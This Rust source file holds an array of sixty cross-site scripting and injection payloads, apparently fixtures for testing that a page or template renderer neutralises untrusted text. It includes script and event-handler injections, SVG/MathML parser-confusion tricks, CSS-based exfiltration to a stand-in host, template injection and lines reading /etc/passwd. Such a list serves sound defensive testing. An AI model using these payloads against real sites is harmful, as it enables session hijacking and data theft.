//! What would set a mark, fetch something, or move what stands beside it, in any of the places where a text is shown: sixty, each another kind.

pub(super) const PAYLOADS: [&str; 60] = [
    // Script, by its element.
    "<script>window.__pwned=1</script>",
    "<ScRiPt/x>window.__pwned=1</sCrIpT >",
    "<script src=//192.0.2.1/x.js></script>",
    "<script type=module>import('https://192.0.2.1/x.js')</script>",
    "<script type=importmap>{\"imports\":{\"svelte\":\"https://192.0.2.1/x.js\"}}</script>",
    // Script, by what happens to an element.
    "<img src=x onerror=\"window.__pwned=1\">",
    "<body onload=window.__pwned=1>",
    "<frameset onpageshow=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<dialog open oncancel=window.__pwned=1><form method=dialog>",
    "<div popover onbeforetoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>",
    "<isindex type=image src=1 onerror=window.__pwned=1>",
    "<form action=https://192.0.2.1/><input autofocus onfocus=window.__pwned=1>",
    // Pictures, sounds and frames that are fetched.
    "<img srcset=\"https://192.0.2.1/1.png 1x, https://192.0.2.1/2.png 2x\">",
    "<picture><source srcset=https://192.0.2.1/x.webp><img></picture>",
    "<audio src=https://192.0.2.1/x.ogg autoplay>",
    "<iframe src=\"javascript:parent.__pwned=1\">",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\">",
    "<object data=\"data:text/html,<script>parent.__pwned=1</script>\">",
    "<embed src=\"javascript:window.__pwned=1\">",
    "<portal src=https://192.0.2.1/>",
    // SVG and MathML, where a parser changes its rules.
    "<svg onload=\"window.__pwned=1\">",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.__pwned=1</script></svg>#x\"/></svg>",
    "<svg><a xlink:href=\"javascript:window.__pwned=1\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><style><!--</style><img src=x onerror=window.__pwned=1>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=window.__pwned=1></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "<div><template shadowrootmode=open><img src=x onerror=window.__pwned=1></template></div>",
    // Addresses.
    "<a href=\"javascript:window.__pwned=1\">x</a>",
    "<a ping=https://192.0.2.1/ href=https://192.0.2.1/ target=_blank>x</a>",
    "<button formaction=javascript:window.__pwned=1>x</button>",
    "javascript:window.__pwned=1",
    "JaVaScRiPt&#58;window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "data:text/html,<script>parent.__pwned=1</script>",
    "blob:https://192.0.2.1/5b0c5a6e-8c1f-4d5e-9d2a-1f6f0a7f3c11",
    // Style.
    "<style>input[value^=a]{background:url(https://192.0.2.1/a)}</style>",
    "<style>@import 'https://192.0.2.1/x.css';</style>",
    "red;position:fixed;inset:0;background:url(https://192.0.2.1/x)",
    "<link rel=stylesheet href=https://192.0.2.1/x.css>",
    "<link rel=prefetch href=https://192.0.2.1/x>",
    // The page as a whole.
    "<meta http-equiv=refresh content=\"0;url=https://192.0.2.1/\">",
    "<base href=https://192.0.2.1/>",
    // Out of an attribute, a comment, a title, a section of data.
    "\"><script>window.__pwned=1</script>",
    "' onmouseover='window.__pwned=1",
    "--><script>window.__pwned=1</script>",
    "</title></textarea></style><script>window.__pwned=1</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"https://192.0.2.1/\">]><![CDATA[<script>window.__pwned=1</script>]]>",
    // Templates: Svelte's, Angular's, JavaScript's, the server's, that of the pages that are printed.
    "{@html '<img src=x onerror=window.__pwned=1>'}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}<%= window.__pwned=1 %>{% include '/etc/passwd' %}",
    "#panic(\"x\") #image(\"/etc/passwd\") $ x ] \\u{41}",
    // Letters that are read as others, or move them.
    "\u{202e}>tpircs/<1=denwp__.wodniw>tpircs<",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; %3Cscript%3E \\u003cscript\\u003e \u{ff1c}script\u{ff1e}",
    "x\u{2028}window.__pwned=1\u{2029}\u{200b}wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
];
